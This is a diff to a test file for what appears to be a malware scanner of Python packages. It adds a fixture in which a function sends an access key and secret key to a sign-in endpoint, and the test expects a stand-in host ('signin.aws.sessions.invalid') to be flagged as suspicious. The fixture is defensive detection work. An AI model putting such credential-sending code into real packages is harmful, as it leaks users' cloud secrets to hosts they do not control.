@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, wheel } from '../../support/inspect.ts';
 
 test('a private key that a wallet function posts to a bare address is malware', async () => {
@@ -181,4 +182,25 @@ test('the password of a form that passes through, told to a third host that answ
 
   expect(await inspect('secret-parameter', told)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
   expect(await inspect('secret-parameter', checked)).toEqual([]);
+});
+
+test('a key that is changed for a session at the sign-in of its vendor is a note', async () => {
+  const of = (host: string): Promise<readonly Finding[]> =>
+    inspect(
+      'secret-parameter',
+      wheel({
+        'pkg/console.py': python(
+          'import json',
+          'from urllib import parse, request',
+          'def token(access_key, secret_key):',
+          "    session = parse.quote_plus(json.dumps({'sessionId': access_key, 'sessionKey': secret_key}))",
+          `    url = 'https://${host}/federation?Action=getSigninToken&Session=' + session`,
+          '    with request.urlopen(url) as answer:',
+          "        return json.loads(answer.read())['SigninToken']",
+        ),
+      }),
+    );
+
+  expect(await of('signin.aws.amazon.com')).toMatchObject([{ class: 'note', score: 1 }]);
+  expect(await of('signin.aws.sessions.invalid')).toMatchObject([{ class: 'suspicious', score: 6 }]);
 });
